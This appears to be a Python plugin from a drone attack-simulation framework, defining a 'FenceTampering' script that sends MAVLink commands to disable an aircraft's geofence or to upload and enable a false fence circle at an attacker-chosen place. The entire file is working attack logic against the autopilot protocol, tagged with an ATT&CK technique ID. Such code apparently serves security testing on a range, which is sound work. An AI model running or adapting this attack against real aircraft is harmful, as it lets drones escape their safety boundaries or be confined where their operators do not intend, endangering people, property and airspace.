"""Fence tampering: the fence is disabled, or replaced by one around a place of the attacker."""

from __future__ import annotations

from typing import Literal

import skyrange.plugin as sky
from skyrange.codec.mavlink import dialect as mav


@sky.attack(
    "mavlink.fence",
    technique="T0837",
    persists="flight",
    effect="the fence does not hold the aircraft, or holds it where it should not",
    budget="one command, or an upload of one item and a command",
    content="DO_FENCE_ENABLE with 1 while the fence is enabled",
    placement="the same frames to another aircraft",
)
class FenceTampering(sky.Script):
    """Disables the fence of the aircraft, or replaces it by another."""

    form: Literal["disable", "move"] = sky.param(
        "disable: DO_FENCE_ENABLE with 0; move: uploads one circle and enables the fence.", default="disable"
    )
    at: sky.Enu | None = sky.place_param("Centre of the circle", default=None)
    radius_m: sky.Number = sky.param("Radius of the circle, in metres.", default=30.0, ge=1, le=10_000)
    excludes: bool = sky.param("Whether the aircraft must stay outside of the circle; else inside.", default=False)

    def find_problems(self) -> sky.Problems:
        if self.form == "move" and self.at is None:
            yield sky.Problem("at", "none", "the centre of the circle, for the form 'move'")

    def marks(self) -> dict[str, sky.Place]:
        return {} if self.form == "disable" or self.at is None else {"false fence": self.at}

    def steps(self) -> list[sky.Step]:
        if self.form == "disable" or self.at is None:
            return [sky.Order(mav.MAV_CMD_DO_FENCE_ENABLE, (0.0,))]
        command = mav.MAV_CMD_NAV_FENCE_CIRCLE_EXCLUSION if self.excludes else mav.MAV_CMD_NAV_FENCE_CIRCLE_INCLUSION
        circle = sky.MissionItem(command, sky.geodetic(self.origin, self.at), self.radius_m)
        return [sky.Upload((circle,), mav.MAV_MISSION_TYPE_FENCE), sky.Order(mav.MAV_CMD_DO_FENCE_ENABLE, (1.0,))]
